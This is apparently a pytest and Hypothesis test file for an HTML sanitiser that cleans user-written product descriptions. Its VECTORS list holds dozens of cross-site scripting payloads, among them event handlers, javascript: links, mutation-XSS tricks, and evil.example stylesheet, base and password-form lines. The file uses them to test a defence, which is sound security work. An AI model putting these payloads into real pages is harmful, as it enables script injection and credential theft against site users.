"""What others write is safe to show, and its words can be read."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mallkit.html import TAGS, plain_text, safe_html

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/v1/auth/logout'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_blank style=x>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<td background='javascript:alert(1)'>",
    "<table><td colspan='9999999' onmouseover=alert(1)>x</table>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style></select><img src=x onerror=alert(1)>",
    "<p id=x name=y class=z data-a=b>x</p>",
    "<b\0 onclick=alert(1)>x</b>",
]


class Seen(HTMLParser):
    """Every tag and attribute that a reader's parser finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Called by the parser."""
        self.tags.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    seen = Seen(html)
    assert "<!" not in html
    assert "<?" not in html
    for tag, attributes in seen.tags:
        assert tag in TAGS
        if tag == "a":
            assert attributes.keys() <= {"href", "rel"}
            assert (attributes.get("href") or "https://").lower().startswith(("http://", "https://"))
            assert ("href" in attributes) <= (attributes.get("rel") == "nofollow noopener noreferrer")
        elif tag in {"td", "th"}:
            assert attributes.keys() <= {"colspan", "rowspan"}
            assert all(0 <= int(span or "") <= 99 for span in attributes.values())
        else:
            assert not attributes


@pytest.mark.requirement(11)
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_loads_comes_through(vector: str) -> None:
    assert_safe(safe_html(vector))
    assert "alert(1)" not in safe_html(vector) or "<" not in safe_html(vector).replace("<b", "").replace("</b", "")


def test_descriptions_keep_what_readers_need() -> None:
    text = '<h2>Pot</h2><p>Fired <b>clay</b>,<br><i>12 cm</i></p><ul><li>one</li></ul><a href="https://x.example/a?b=1&amp;c=2">more</a>'
    kept = text.replace('c=2">', 'c=2" rel="nofollow noopener noreferrer">')
    assert safe_html(text) == kept


def test_what_is_no_text_for_a_reader_goes_with_its_tag() -> None:
    gone = "<script>1</script><style>2</style><svg><title>3</title><text>4</text></svg><math><mi>5</mi></math><iframe>6</iframe>"
    assert safe_html(f"<p>a{gone}b</p>") == "<p>ab</p>"


def test_tables_keep_their_spans() -> None:
    table = '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    assert safe_html(table) == table


def test_plain_text_is_words_without_tags() -> None:
    assert plain_text("<p>Fired&nbsp;clay</p><p>a &lt;b&gt; c</p><script>x</script><li>one<li>two") == "Fired clay a <b> c one two"
    assert plain_text("un<b>believ</b>able") == "unbelievable"


pieces = st.one_of(
    st.sampled_from(
        [*VECTORS, "<", ">", "&", '"', "'", "<p>", "</p>", "<b>", "</b>", "<table>", "<a href='https://x.example'>", "<!--", "-->"]
    ),
    st.text(max_size=12),
)


@given(st.lists(pieces, max_size=8).map("".join))
def test_any_text_becomes_safe_and_stays_as_it_is(text: str) -> None:
    once = safe_html(text)
    assert_safe(once)
    assert safe_html(once) == once


@given(st.text(st.characters(blacklist_categories=["Cc", "Cs"]), max_size=60))
def test_text_without_tags_is_read_as_it_was_written(text: str) -> None:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert plain_text(escaped) == " ".join(text.split())
